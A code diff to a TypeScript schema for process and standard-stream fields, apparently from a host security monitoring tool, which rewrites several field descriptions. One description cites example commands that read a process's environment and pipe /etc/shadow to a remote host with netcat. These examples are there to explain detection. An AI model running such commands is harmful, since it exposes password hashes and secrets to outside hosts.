@@ -205,8 +205,8 @@ export const Process = Obj(
 export const StdioStream = Obj(
   {
     type: Words(['tty', 'pipe', 'socket', 'file', 'char_device', 'none', 'other', 'unknown'], 'What the descriptor refers to.'),
-    inode: Opt(Count('Inode number (pipes and sockets: the shared object).')),
-    path: Opt(Str('Path, for files and terminals.')),
+    inode: Opt(Count('Inode number: of the file, or of the pipe or socket (the object the two ends share).')),
+    path: Opt(Str('Standard input only: the path of the file on it (`tr < /proc/1/environ`, `nc HOST PORT < /etc/shadow`), which no argument names; read when the process executed (cn_proc: from /proc, when it is still there).')),
     socket: Opt(
       Obj(
         {
@@ -227,7 +227,7 @@ export const StdioStream = Obj(
 /** Process details that ECS has no names for. */
 export const HadesProcess = Obj(
   {
-    tty: Opt(Str('Name of the controlling terminal, e.g. pts/0.', 64)),
+    tty: Opt(Str('Name of the controlling terminal as ps and who write it, e.g. pts/0 or tty1.', 64)),
     stdio: Opt(Obj({ stdin: Opt(StdioStream), stdout: Opt(StdioStream), stderr: Opt(StdioStream) }, 'What descriptors 0, 1 and 2 refer to.')),
     cgroup: Opt(Obj({ id: Opt(Count('cgroup v2 id.')), path: Opt(Str('cgroup path.')) }, 'The process\'s cgroup.')),
     namespaces: Opt(Obj({ pid: Opt(Count('pid namespace inode.')), mnt: Opt(Count('Mount namespace inode.')) }, 'Namespaces.')),
